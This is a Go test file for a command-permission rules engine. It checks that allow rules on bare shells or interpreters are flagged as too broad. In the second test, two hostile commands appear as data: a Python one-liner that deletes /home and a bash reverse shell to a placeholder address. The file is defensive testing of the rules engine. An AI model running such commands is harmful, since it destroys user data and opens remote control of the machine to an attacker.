package rules_test

import (
	"strings"
	"testing"

	"github.com/wardenhq/warden/internal/vocab"
	"github.com/wardenhq/warden/rules"
)

// SPEC G14 and issue 20 item 8: an allow rule on a bare shell or
// interpreter allows every command that program runs, the dangerous ones
// included; Broad says so for it, and only for it.
func TestG14_BroadAllowRulesWarn(t *testing.T) {
	for _, tc := range []struct {
		rule string
		want string // "" when no warning is due
	}{
		{`prefix_rule(pattern = ["python"])`, `["python"] allows every python command`},
		{`prefix_rule(pattern = ["python3.12"])`, `every python3.12 command`},
		{`prefix_rule(pattern = ["bash"], decision = "allow")`, `["bash"] allows every bash command`},
		{`prefix_rule(pattern = ["/bin/sh"])`, `every /bin/sh command`},
		{`prefix_rule(pattern = [["ls", "node"]])`, `every node command`},
		{`prefix_rule(pattern = ["bash", "-c"])`, `every bash command`},
		{`prefix_rule(pattern = ["python3", ["-u", "-B"]])`, `every python3 command`},
		{`prefix_rule(pattern = ["perl"])`, `every perl command`},
		{`prefix_rule(pattern = ["python3", "-m", "pytest"])`, ""},
		{`prefix_rule(pattern = ["bash", "scripts/test.sh"])`, ""},
		{`prefix_rule(pattern = ["cargo", "test"])`, ""},
		{`prefix_rule(pattern = ["ls"])`, ""},
		{`prefix_rule(pattern = ["python"], decision = "prompt")`, ""},
		{`prefix_rule(pattern = ["bash"], decision = "forbidden")`, ""},
	} {
		set, err := rules.Parse([]byte(tc.rule+"\n"), "team.rules")
		if err != nil {
			t.Fatalf("%s: %v", tc.rule, err)
		}
		ws := set.Broad()
		if tc.want == "" {
			if len(ws) != 0 {
				t.Errorf("%s: warned %q", tc.rule, ws)
			}
			continue
		}
		if len(ws) != 1 || !strings.HasPrefix(ws[0], "team.rules:1:1: warning: ") || !strings.Contains(ws[0], tc.want) || !strings.Contains(ws[0], "exact prefix") {
			t.Errorf("%s: warnings %q, want one at team.rules:1:1 saying %q", tc.rule, ws, tc.want)
		}
	}
	// The YAML form is judged alike.
	set, err := rules.Parse([]byte("rules:\n  - pattern: [sh]\n    decision: allow\n  - pattern: [sh, ci/test.sh]\n"), "team.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if ws := set.Broad(); len(ws) != 1 || !strings.HasPrefix(ws[0], "team.yaml:2:") || !strings.Contains(ws[0], `["sh"] allows every sh command`) {
		t.Errorf("YAML: warnings %q", ws)
	}
	if ws := (*rules.Set)(nil).Broad(); ws != nil {
		t.Errorf("nil set: %q", ws)
	}
}

// The warning is true: with a broad allow rule, dangerous code the shell
// or interpreter runs is allowed, where without the rule (or with an exact
// prefix) it needs at least a prompt.
func TestG14_BroadAllowRuleAllowsDangerousCode(t *testing.T) {
	const (
		rmtree  = `python3 -c 'import shutil; shutil.rmtree("/home")'`
		reverse = `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`
	)
	for _, tc := range []struct {
		rules, script string
		want          vocab.Decision
	}{
		{`prefix_rule(pattern = ["python3"])`, rmtree, rules.Allow},
		{`prefix_rule(pattern = ["python3", "-m", "pytest"])`, rmtree, rules.Prompt},
		{``, rmtree, rules.Prompt},
		{`prefix_rule(pattern = ["bash"])`, reverse, rules.Allow},
		{`prefix_rule(pattern = ["bash", "scripts/test.sh"])`, reverse, rules.Prompt},
		{``, reverse, rules.Prompt},
	} {
		set, err := rules.Parse([]byte(tc.rules+"\n"), "team.rules")
		if err != nil {
			t.Fatal(err)
		}
		if got := rules.Evaluate(set, tc.script).Decision; got != tc.want {
			t.Errorf("rules %q: %s is %s, want %s", tc.rules, tc.script, got, tc.want)
		}
		if (tc.want == rules.Allow) != (len(set.Broad()) == 1) {
			t.Errorf("rules %q: warnings %q", tc.rules, set.Broad())
		}
	}
}
